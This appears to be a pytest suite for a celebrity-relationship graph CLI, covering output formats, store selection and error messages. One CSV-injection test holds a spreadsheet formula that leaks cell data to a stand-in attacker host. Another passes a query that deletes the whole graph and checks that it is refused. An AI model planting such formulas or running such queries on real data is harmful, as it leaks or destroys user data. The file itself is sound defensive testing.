"""The graph commands through CliRunner, checked through the Python API; Neo4j faults."""

from __future__ import annotations

import csv
import io
import json
import os
import socket
from dataclasses import replace
from pathlib import Path

import pytest
from click.testing import CliRunner

import celebgraph
from celebgraph.cli.app import _register_commands, cli
from celebgraph.errors import StoreUnavailableError
from celebgraph.graph import open_graph
from celebgraph.graph.neo4j_store import Neo4jStore
from celebgraph.settings import DEFAULT_STORE_PATH, Settings, StoreChoiceError

EXAMPLES = Path(__file__).resolve().parents[1] / "examples"
_register_commands()

COMMANDS = ["ingest", "spouses", "children", "parents", "siblings", "family", "timeline", "path",
            "stats", "query", "export", "explain", "check", "conflicts", "serve", "person",
            "merge", "split", "retract", "reject", "assert", "correct"]
NAME_COMMANDS = ["spouses", "children", "parents", "siblings", "family", "timeline", "explain",
                 "person"]
UNREACHABLE = "bolt://127.0.0.1:1"
# A store argument each command needs besides the store options, to reach the store at all.
ARGS = {**{c: ["Kim Kardashian"] for c in NAME_COMMANDS}, "ingest": [str(EXAMPLES)],
        "path": ["Kim Kardashian", "Kanye West"], "stats": [], "export": [], "check": [],
        "conflicts": [], "serve": [],
        "query": ["MATCH (p:Person) RETURN p.name AS name"],
        "merge": ["Kim Kardashian", "Kanye West"], "split": ["Kanye West", "--article", "a.txt"],
        "retract": ["a.txt"], "reject": ["spouse:kanye-west:kim-kardashian"],
        "assert": ["spouse", "Kim Kardashian", "Kanye West", "--note", "a test"],
        "correct": ["spouse:kanye-west:kim-kardashian", "--start", "2014"]}


@pytest.fixture
def store(tmp_path: Path) -> str:
    from test_store_contract import article_a, article_b, article_c

    path = str(tmp_path / "cli.lbdb")
    with open_graph(path) as g:
        g.ingest_extractions([article_a(), article_b(), article_c()])
    return path


def run(*args: str, env: dict[str, str] | None = None) -> tuple[int, str, str]:
    """Invoke the CLI with no NEO4J_* or CELEBGRAPH_STORE in its environment unless ``env``
    sets them."""
    unset: dict[str, str | None] = {k: None for k in os.environ if k.startswith("NEO4J_")}
    unset["CELEBGRAPH_STORE"] = None
    result = CliRunner().invoke(cli, list(args), env={**unset, **(env or {})})
    return result.exit_code, result.stdout, result.stderr


def test_every_graph_command_is_listed() -> None:
    registered = {name for name, command in cli.commands.items()
                  if any(p.name == "store" for p in command.params)}
    assert registered == set(COMMANDS) == set(ARGS)


@pytest.mark.parametrize("command", COMMANDS)
def test_help_has_an_example_and_fits(command: str) -> None:
    code, out, _ = run(command, "--help")
    assert code == 0
    example = out.split("Example:", 1)[1]
    assert example.split()[:2] == ["celebgraph", command]
    assert len(out.splitlines()) <= 30


def test_timeline_json(store: str) -> None:
    code, out, _ = run("timeline", "kanye west", "--store", store, "--format", "json")
    assert code == 0
    events = json.loads(out)
    assert events[0] == {"date": "1977-06-08", "event": "born", "people": ["Kanye West"],
                         "sources": ["a", "b"], "modality": "asserted"}
    assert [e["event"] for e in events][-1] == "divorced"


def test_store_from_env_and_table_output(store: str) -> None:
    code, out, _ = run("spouses", "Kim Kardashian", env={"CELEBGRAPH_STORE": store})
    assert code == 0
    assert out.splitlines()[0].split() == ["NAME", "DESCRIPTORS", "START", "END", "MODALITY",
                                        "SOURCES"]
    assert "Kanye West" in out


@pytest.mark.parametrize(("args", "expected"), [
    (("children", "Kim Kardashian"), ["North West", "Psalm"]),
    (("parents", "North West"), ["Kanye West", "Kim Kardashian"]),
    (("siblings", "Psalm"), ["North West"]),
    (("family", "Psalm", "--depth", "1"), ["Kim Kardashian"]),
])
def test_relationship_commands(store: str, args: tuple[str, ...], expected: list[str]) -> None:
    code, out, _ = run(*args, "--store", store, "--format", "json")
    assert code == 0
    assert [row["name"] for row in json.loads(out)] == expected


def test_path_and_stats(store: str) -> None:
    code, out, _ = run("path", "Kris Jenner", "Irina Shayk", "--store", store, "--format", "json")
    assert code == 0
    assert [s["relation"] for s in json.loads(out)] == ["parent of", "spouse of", "partner of"]
    code, out, _ = run("stats", "--store", store, "--format", "json")
    assert {r["what"]: r["count"] for r in json.loads(out)}["people"] == 7


def test_query_params_and_formats(store: str) -> None:
    q = "MATCH (p:Person {id: $id}) RETURN p.name AS name, p.birth_date AS born"
    code, out, _ = run("query", q, "--param", "id=kanye-west", "--store", store, "--format", "json")
    assert code == 0
    assert json.loads(out) == [{"name": "Kanye West", "born": "1977-06-08"}]
    code, out, _ = run("query", q, "--param", "id=kanye-west", "--store", store, "--format", "csv")
    assert out.splitlines() == ['"name","born"', '"Kanye West","1977-06-08"']


def test_query_csv_has_no_cell_a_spreadsheet_would_run(store: str) -> None:
    """Text starting with = + - @ tab or carriage return gets a leading single quote (OWASP's
    CSV-injection advice); numbers stay bare numbers, negative ones too."""
    texts = {"a": '=HYPERLINK("http://evil.example/?"&A1)', "b": "+1", "c": "-x",
             "d": "@SUM(A1)", "e": "\tx", "f": "\rx", "g": "plain = text"}
    q = "RETURN " + ", ".join(f"${k} AS {k}" for k in texts) + ", -5 AS n, -1.5 AS x"
    params = [f"--param={k}={v}" for k, v in texts.items()]
    code, out, err = run("query", q, *params, "--store", store, "--format", "csv")
    assert code == 0, err
    header, row = csv.reader(io.StringIO(out), quoting=csv.QUOTE_NONNUMERIC)
    assert header == [*texts, "n", "x"]
    assert row == [*("'" + v for v in list(texts.values())[:-1]), "plain = text", -5, -1.5]


@pytest.mark.parametrize(("args", "message"), [
    (("query", "MATCH (n) DETACH DELETE n"), "read-only"),
    (("query", "MATC (n) RETURN n"), "MATC"),
])
def test_errors_are_one_line(store: str, args: tuple[str, ...], message: str) -> None:
    code, _, err = run(*args, "--store", store)
    assert code == 1
    assert err.startswith("Error: ") and message in err
    assert "Traceback" not in err and len(err.strip().splitlines()) == 1


def test_export_to_file(store: str, tmp_path: Path) -> None:
    target = tmp_path / "g.graphml"
    code, _, _ = run("export", "--format", "graphml", "-o", str(target), "--store", store)
    assert code == 0
    assert "<graphml" in target.read_text()


def test_ingest_examples_end_to_end(tmp_path: Path) -> None:
    path = str(tmp_path / "e2e.lbdb")
    missing = str(tmp_path / "missing.txt")
    code, out, err = run("ingest", str(EXAMPLES), missing, "--store", path)
    assert code == 0, err
    assert "2 new" in out and "1 failed" in out
    assert "missing.txt" in err
    code, out, _ = run("ingest", str(EXAMPLES), "--store", path)
    assert "2 unchanged" in out
    with open_graph(path) as g:
        assert any(s["name"] == "Kanye West" for s in g.spouses("Kim Kardashian"))
        assert any(e["event"] == "child_born" for e in g.timeline("Kim Kardashian"))


def _closed_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def test_unreachable_neo4j_is_one_clear_line() -> None:
    uri = f"bolt://127.0.0.1:{_closed_port()}"
    with pytest.raises(StoreUnavailableError, match=f"cannot reach Neo4j at {uri}") as err:
        Neo4jStore(uri, password="x")
    assert "scripts/neo4j-local start" in str(err.value)
    assert f"{uri}: [Errno 111] Connection refused. Start" in str(err.value)
    code, _, stderr = run("stats", "--neo4j", uri)
    assert code == 1 and stderr.startswith("Error: cannot reach Neo4j")
    assert len(stderr.strip().splitlines()) == 1


@pytest.mark.neo4j
def test_wrong_password_is_one_clear_line(request: pytest.FixtureRequest) -> None:
    from test_store_contract import _neo4j_settings

    settings: Settings = _neo4j_settings(request)
    with pytest.raises(StoreUnavailableError, match="refused the credentials"):
        Neo4jStore(settings.neo4j_uri or "", settings.neo4j_username, "wrong-password")
    env = {"NEO4J_URI": settings.neo4j_uri or "", "NEO4J_PASSWORD": "wrong-password"}
    code, _, stderr = run("stats", env=env)
    assert code == 1 and "NEO4J_PASSWORD" in stderr


@pytest.mark.neo4j
def test_a_server_address_in_settings_store_opens_neo4j_with_its_credentials(
        request: pytest.FixtureRequest) -> None:
    from test_store_contract import _neo4j_settings

    settings: Settings = _neo4j_settings(request)
    as_store = Settings(store=settings.neo4j_uri or "", neo4j_password=settings.neo4j_password)
    with open_graph(as_store) as graph:
        assert graph.stats()["people"] >= 0
    with pytest.raises(StoreUnavailableError, match="refused the credentials"):
        open_graph(replace(as_store, neo4j_password="wrong-password"))


def _one_line_error(result: tuple[int, str, str]) -> str:
    """The stderr of a ``run`` that failed with one ``Error: ...`` line and no traceback."""
    code, _, err = result
    assert code == 1, err
    assert err.startswith("Error: ") and "Traceback" not in err
    assert len(err.strip().splitlines()) == 1, err
    return err


@pytest.mark.parametrize("command", [*NAME_COMMANDS, "path"])
def test_unknown_and_ambiguous_names_are_one_line(store: str, command: str) -> None:
    rest = ["Kanye West"] if command == "path" else []
    err = _one_line_error(run(command, "nobody atall", *rest, "--store", store))
    assert "no person named 'nobody atall'" in err
    err = _one_line_error(run(command, "kim", *rest, "--store", store))
    assert "matches several people" in err
    assert "Kim Kardashian" in err and "Kim Jong-un" in err


@pytest.mark.parametrize("command", COMMANDS)
def test_unreachable_neo4j_is_one_line_for_every_command(command: str) -> None:
    err = _one_line_error(run(command, *ARGS[command], "--neo4j", UNREACHABLE))
    assert err.startswith(f"Error: cannot reach Neo4j at {UNREACHABLE}")


def test_a_server_address_given_as_store_is_used_as_the_server() -> None:
    err = _one_line_error(run("stats", "--store", UNREACHABLE))
    assert err.startswith(f"Error: cannot reach Neo4j at {UNREACHABLE}: ")


def test_store_flag_beats_neo4j_uri_in_env(store: str) -> None:
    code, out, err = run("stats", "--store", store, "--format", "json",
                         env={"NEO4J_URI": UNREACHABLE})
    assert code == 0, err
    assert {r["what"]: r["count"] for r in json.loads(out)}["people"] == 7


def test_store_flag_beats_celebgraph_store_in_env(store: str, tmp_path: Path) -> None:
    other = tmp_path / "other.lbdb"
    code, out, err = run("spouses", "Kanye West", "--store", store,
                         env={"CELEBGRAPH_STORE": str(other)})
    assert code == 0, err
    assert "Kim Kardashian" in out and not other.exists()


@pytest.mark.parametrize(("args", "env"), [
    (("--neo4j", UNREACHABLE), {}),
    ((), {"NEO4J_URI": UNREACHABLE}),
])
def test_neo4j_chosen_over_celebgraph_store(tmp_path: Path, args: tuple[str, ...],
                                            env: dict[str, str]) -> None:
    env_store = tmp_path / "env.lbdb"
    err = _one_line_error(run("stats", *args, env={**env, "CELEBGRAPH_STORE": str(env_store)}))
    assert err.startswith(f"Error: cannot reach Neo4j at {UNREACHABLE}")
    assert not env_store.exists()


def test_default_store_is_in_the_working_directory(tmp_path: Path,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    code, _, err = run("ingest", str(EXAMPLES / "000_4e0017b1b8841eea.txt"))
    assert code == 0, err
    assert (tmp_path / DEFAULT_STORE_PATH).exists()
    code, out, err = run("stats", "--format", "json")
    assert code == 0, err
    assert {r["what"]: r["count"] for r in json.loads(out)}["people"] > 0


@pytest.mark.parametrize("command", [c for c in COMMANDS if c != "ingest"])
def test_a_read_command_on_a_missing_store_names_it_and_creates_nothing(
        tmp_path: Path, command: str) -> None:
    typo = tmp_path / "celebgrpah.lbdb"
    err = _one_line_error(run(command, *ARGS[command], "--store", str(typo)))
    assert err.startswith(f"Error: no celebgraph store at {typo}: ingest articles first")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("command", ["stats", "ingest"])
def test_an_empty_file_is_not_a_store(tmp_path: Path, command: str) -> None:
    empty = tmp_path / "empty.lbdb"
    empty.touch()
    err = _one_line_error(run(command, *ARGS[command], "--store", str(empty)))
    assert err.startswith(f"Error: {empty} is an empty file, not a celebgraph store")
    assert empty.stat().st_size == 0


def test_a_file_that_is_not_a_store_is_an_error(tmp_path: Path) -> None:
    other = tmp_path / "notes.txt"
    other.write_text("shopping list\n")
    err = _one_line_error(run("stats", "--store", str(other)))
    assert err.startswith(f"Error: cannot open the embedded store {other}: ")
    assert other.read_text() == "shopping list\n"


def test_a_read_only_store_refuses_writes(store: str) -> None:
    from test_store_contract import article_a

    with open_graph(store, read_only=True) as g:
        before = g.stats()
        with pytest.raises(celebgraph.errors.StoreError):
            g.ingest_extractions([article_a(version="v2")])
        assert g.stats() == before


def test_store_and_neo4j_together_is_a_one_line_error(store: str) -> None:
    code, out, err = run("stats", "--store", store, "--neo4j", UNREACHABLE)
    assert (code, out) == (1, "")
    assert err == (f"Error: both --store {store} and --neo4j {UNREACHABLE} were given: "
                   "choose one store\n")


@pytest.mark.parametrize(("kwargs", "expected"), [
    ({}, Settings(store=DEFAULT_STORE_PATH)),
    ({"env_store": "e.lbdb"}, Settings(store="e.lbdb")),
    ({"env_store": "e.lbdb", "env_neo4j_uri": "bolt://env"}, Settings(neo4j_uri="bolt://env")),
    ({"store": "s.lbdb", "env_neo4j_uri": "bolt://env"}, Settings(store="s.lbdb")),
    ({"neo4j_uri": "bolt://cli", "env_neo4j_uri": "bolt://env", "env_store": "e.lbdb"},
     Settings(neo4j_uri="bolt://cli")),
    ({"neo4j_uri": "bolt://cli", "neo4j_password": "pw"},
     Settings(neo4j_uri="bolt://cli", neo4j_password="pw")),
    # a server address given where a file path goes is taken as the server, with credentials
    ({"store": "neo4j://cli", "neo4j_password": "pw", "env_neo4j_uri": "bolt://env"},
     Settings(neo4j_uri="neo4j://cli", neo4j_password="pw")),
    ({"env_store": "bolt://env", "neo4j_password": "pw"},
     Settings(neo4j_uri="bolt://env", neo4j_password="pw")),
])
def test_settings_choose(kwargs: dict[str, str], expected: Settings) -> None:
    assert Settings.choose(**kwargs) == expected


def test_settings_choose_refuses_two_stores() -> None:
    with pytest.raises(StoreChoiceError, match="choose one store"):
        Settings.choose(store="s.lbdb", neo4j_uri="bolt://cli")


def test_open_with_an_explicit_store_ignores_neo4j_uri(store: str,
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("NEO4J_URI", UNREACHABLE)
    with celebgraph.open(store=store) as g:
        assert g.stats()["people"] == 7


@pytest.mark.parametrize(("given", "message"), [
    ("http://127.0.0.1:7474", "'http://127.0.0.1:7474' is Neo4j's web address; celebgraph "
     "talks Bolt: use bolt://127.0.0.1:7687"),
    ("not an address", "'not an address' is not a Neo4j address: use bolt://host:7687"),
])
def test_a_neo4j_address_that_is_not_bolt_is_one_line_with_the_fix(given: str,
                                                                   message: str) -> None:
    assert message in _one_line_error(run("stats", "--neo4j", given))


def test_host_and_port_mean_bolt() -> None:
    err = _one_line_error(run("stats", "--neo4j", "127.0.0.1:1"))
    assert "cannot reach Neo4j at bolt://127.0.0.1:1" in err


@pytest.mark.neo4j
def test_the_python_api_reads_the_same_environment_as_the_cli(
        request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    from test_store_contract import _neo4j_settings

    settings: Settings = _neo4j_settings(request)
    host_port = (settings.neo4j_uri or "").split("://", 1)[1]
    monkeypatch.setenv("NEO4J_URI", host_port)
    monkeypatch.setenv("NEO4J_PASSWORD", settings.neo4j_password or "")
    monkeypatch.chdir(tmp_path)
    with celebgraph.open() as graph:  # the server, with the password from the environment
        assert isinstance(graph.store, Neo4jStore)
    with celebgraph.open(settings.neo4j_uri) as graph:  # a URI: the password still comes along
        assert isinstance(graph.store, Neo4jStore)
    assert not (tmp_path / DEFAULT_STORE_PATH).exists()
    monkeypatch.delenv("NEO4J_URI")
    monkeypatch.setenv("CELEBGRAPH_STORE", str(tmp_path / "env.lbdb"))
    with celebgraph.open() as graph:
        assert graph.stats()["people"] == 0
    assert (tmp_path / "env.lbdb").exists()


def test_ingest_json_summary_workers_and_exit_code_when_nothing_was_read(tmp_path: Path) -> None:
    store = str(tmp_path / "in.lbdb")
    code, out, _ = run("ingest", str(EXAMPLES), "--store", store, "--workers", "2",
                       "--format", "json")
    assert code == 0
    summary = json.loads(out)
    assert (summary["documents"], summary["new"], summary["failed"]) == (2, 2, 0)
    assert summary["facts"] > 0 and summary["people"] > 0
    bad = tmp_path / "bad"
    bad.mkdir()
    (bad / "a.txt").write_bytes(b"\x00\x01binary")
    code, out, err = run("ingest", str(bad), "--store", store)
    assert code == 1
    assert "binary file" in err and "Error: no input could be read" in err
    code, _, _ = run("ingest", str(bad), str(EXAMPLES), "--store", store)
    assert code == 0  # one good input is enough


def test_long_cells_end_in_an_ellipsis_unless_wide(tmp_path: Path) -> None:
    from celebgraph.cli.output import CELL_WIDTH, render_table

    long = "x" * (CELL_WIDTH + 20)
    cut = render_table([{"a": long}]).splitlines()[2]
    assert cut == "x" * (CELL_WIDTH - 1) + "…"
    assert render_table([{"a": long}], wide=True).splitlines()[2] == long
    store = str(tmp_path / "w.lbdb")
    assert run("ingest", str(EXAMPLES), "--store", store)[0] == 0
    query = "MATCH (p:Person) RETURN p.name + '" + "y" * 100 + "' AS name LIMIT 1"
    _, narrow, _ = run("query", query, "--store", store)
    _, wide, _ = run("query", query, "--store", store, "--wide")
    assert narrow.splitlines()[2].endswith("…") and len(narrow.splitlines()[2]) == CELL_WIDTH
    assert wide.splitlines()[2].endswith("y" * 100)
